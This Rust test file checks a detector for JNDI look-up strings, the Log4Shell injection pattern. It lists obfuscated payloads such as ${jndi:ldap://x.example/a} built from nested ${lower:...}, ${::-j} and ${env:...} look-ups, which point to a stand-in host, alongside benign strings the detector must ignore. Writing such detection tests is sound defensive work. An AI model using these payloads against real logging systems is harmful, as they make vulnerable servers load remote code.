//! Look-ups, however they are spelled.

use super::{Found, resolved};

fn is_jndi(text: &str) -> bool {
    resolved(text.to_ascii_lowercase().as_bytes()).jndi
}

#[test]
fn a_look_up_is_found_however_it_is_spelled() {
    for text in [
        "${jndi:ldap://x.example/a}",
        "prefix ${jndi:rmi://x",
        "${${lower:j}${upper:n}${lower:d}i:ldap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
        "${${env:NO_SUCH:-j}ndi${env:NO_SUCH:-:}ldap://x.example}",
        "${${lower:${lower:${lower:jndi}}}:dns://x.example}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example}",
        "${jndi:${lower:l}${lower:d}ap://x.example}",
        "${${::-${::-$${::-j}}}ndi:ldap://x.example}",
    ] {
        assert!(is_jndi(text), "{text}");
    }
}

#[test]
fn other_look_ups_ask_nothing_of_jndi() {
    for text in ["${name}", "${env:STAGE}", "costs ${price} a jndi: look-up", "${a${b}jndi}", "$"] {
        assert!(!is_jndi(text), "{text}");
    }
    let two = Found { spelled: 2, ..Found::default() };
    assert_eq!(resolved(b"${${lower:a}${lower:b}}"), two);
}
